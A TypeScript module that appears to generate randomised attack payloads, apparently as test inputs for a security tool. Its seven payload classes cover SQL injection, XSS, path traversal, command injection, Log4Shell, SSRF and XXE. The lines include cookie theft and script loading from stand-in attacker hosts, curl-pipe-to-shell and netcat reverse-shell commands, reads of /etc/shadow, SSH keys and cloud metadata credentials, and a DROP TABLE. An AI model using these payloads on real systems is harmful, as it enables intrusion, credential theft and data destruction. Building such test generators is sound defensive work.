import type { Random } from './random.ts';

export const PAYLOAD_CLASSES = ['sqli', 'xss', 'traversal', 'cmdi', 'log4shell', 'ssrf', 'xxe'] as const;
export type PayloadClass = (typeof PAYLOAD_CLASSES)[number];

type Template = string | ((random: Random) => string);

const n = (random: Random): number => random.int(1, 9_999);
const word = (random: Random): string => `${random.pick(['x', 'q', 'z', 'k'])}${random.hex(4)}`;
const evil = (random: Random): string =>
  `${random.pick(['evil', 'attacker', 'oast', 'cb'])}-${random.hex(4)}.example.net`;
const file = (random: Random): string =>
  random.pick([
    'etc/passwd',
    'etc/shadow',
    'etc/hosts',
    'proc/self/environ',
    'windows/win.ini',
    'boot.ini',
    'var/log/apache2/access.log',
    'root/.ssh/id_rsa',
  ]);
const command = (random: Random): string =>
  random.pick([
    'id',
    'whoami',
    'uname -a',
    'cat /etc/passwd',
    'ls -la /',
    `ping -c 3 ${evil(random)}`,
    `wget http://${evil(random)}/x.sh`,
    `curl http://${evil(random)}/a|sh`,
    'nc -e /bin/sh 192.0.2.7 4444',
  ]);
const columns = (random: Random): string =>
  Array.from({ length: random.int(2, 9) }, (_, i) => (random.chance(0.3) ? 'NULL' : String(i + 1))).join(',');

/** Payloads as the attacker means them, before any encoding. */
const PAYLOADS: Record<PayloadClass, readonly Template[]> = {
  sqli: [
    (r) => `${n(r)}' OR '${n(r)}'='${n(r)}' -- -`,
    (r) => `${n(r)}' UNION ALL SELECT ${columns(r)} FROM users-- ${word(r)}`,
    (r) => `-${n(r)} UNION SELECT ${columns(r)},concat(user,0x3a,password) FROM mysql.user#`,
    (r) => `${n(r)}) AND SLEEP(${r.int(2, 9)})-- ${word(r)}`,
    (r) => `${n(r)}' AND (SELECT ${n(r)} FROM (SELECT(SLEEP(5)))${word(r)})-- -`,
    (r) => `${n(r)}'; DROP TABLE ${word(r)}; --`,
    (r) => `${n(r)}; WAITFOR DELAY '0:0:${r.int(3, 9)}'--`,
    (r) => `${n(r)} AND 1=(SELECT COUNT(*) FROM information_schema.tables)-- `,
    (r) => `admin'/**/or/**/${n(r)}=${n(r)}#`,
    (r) => `1' AND extractvalue(1,concat(0x7e,(select @@version),'${word(r)}'))-- -`,
    (r) => `${n(r)}' ORDER BY ${r.int(5, 40)}-- -`,
    (r) => `${n(r)}'||(SELECT pg_sleep(5))||'${word(r)}`,
  ],
  xss: [
    (r) => `<script>alert(${n(r)})</script>`,
    (r) => `"><img src=x onerror=alert('${word(r)}')>`,
    (r) => `<svg/onload=fetch('//${evil(r)}/'+document.cookie)>`,
    (r) => `javascript:alert(document.domain)//${word(r)}`,
    (r) => `'><body onpageshow=alert(${n(r)})>`,
    (r) => `<iframe srcdoc="<script>parent.alert(${n(r)})</script>">`,
    (r) => `<details open ontoggle=confirm(${n(r)})>`,
    (r) => `<a href="javascript:eval(atob('${word(r)}'))">x</a>`,
    (r) => `<input autofocus onfocus=prompt(${n(r)})>`,
    (r) => `<ScRiPt src=//${evil(r)}/x.js></ScRiPt>`,
  ],
  traversal: [
    (r) => `${'../'.repeat(r.int(3, 10))}${file(r)}`,
    (r) => `${'..\\'.repeat(r.int(3, 8))}${file(r).replaceAll('/', '\\')}`,
    (r) => `${'....//'.repeat(r.int(3, 8))}${file(r)}`,
    (r) => `/var/www/html/${'../'.repeat(r.int(4, 9))}${file(r)}\u0000.png`,
    (r) => `php://filter/convert.base64-encode/resource=${word(r)}.php/${'../'.repeat(4)}${file(r)}`,
    (r) => `file:///${'../'.repeat(r.int(3, 6))}${file(r)}`,
  ],
  cmdi: [
    (r) => `; ${command(r)}`,
    (r) => `| ${command(r)}`,
    (r) => `\`${command(r)}\``,
    (r) => `$(${command(r)})`,
    (r) => `${n(r)} && ${command(r)}`,
    (r) => `127.0.0.1; ${command(r)} #${word(r)}`,
    (r) => `;cat\${IFS}/etc/passwd;echo ${word(r)}`,
    (r) => `|| /bin/bash -c '${command(r)}'`,
  ],
  log4shell: [
    (r) => `\${jndi:ldap://${evil(r)}:1389/${word(r)}}`,
    (r) => `\${jndi:rmi://${evil(r)}/${word(r)}}`,
    (r) => `\${jndi:dns://${evil(r)}/${word(r)}}`,
    (r) => `\${\${lower:j}ndi:\${lower:l}dap://${evil(r)}/${word(r)}}`,
    (r) => `\${\${::-j}\${::-n}\${::-d}\${::-i}:ldap://${evil(r)}/${word(r)}}`,
    (r) => `\${\${env:NaN:-j}ndi\${env:NaN:-:}\${env:NaN:-l}dap\${env:NaN:-:}//${evil(r)}/${word(r)}}`,
  ],
  ssrf: [
    (r) => `http://169.254.169.254/latest/meta-data/iam/security-credentials/${word(r)}`,
    (r) => `http://metadata.google.internal/computeMetadata/v1/?x=${word(r)}`,
    (r) => `http://127.0.0.1:${r.pick([22, 80, 2375, 6379, 8500, 9200])}/${word(r)}`,
    (r) => `http://localhost:${r.int(1_000, 9_999)}/admin/${word(r)}`,
    (r) => `gopher://127.0.0.1:6379/_SET%20${word(r)}%20pwned`,
    (r) => `http://[::1]:${r.int(1_000, 9_999)}/${word(r)}`,
    (r) => `http://2130706433/${word(r)}`,
    (r) => `dict://localhost:11211/stat?${word(r)}`,
  ],
  xxe: [
    (r) => `<?xml version="1.0"?><!DOCTYPE ${word(r)} [<!ENTITY xxe SYSTEM "file:///${file(r)}">]><r>&xxe;</r>`,
    (r) => `<!DOCTYPE foo [<!ENTITY % ${word(r)} SYSTEM "http://${evil(r)}/x.dtd"> %${word(r)};]>`,
    (r) => `<!DOCTYPE root SYSTEM "http://${evil(r)}/${word(r)}.dtd">`,
    (r) =>
      `<?xml version="1.0"?><!DOCTYPE data [<!ELEMENT data ANY><!ENTITY file SYSTEM "php://filter/read=convert.base64-encode/resource=/${file(r)}">]><data>&file;</data>`,
  ],
};

/** One payload of a class, before any encoding. */
export function payload(random: Random, kind: PayloadClass): string {
  const template = random.pick(PAYLOADS[kind]);
  return typeof template === 'string' ? template : template(random);
}
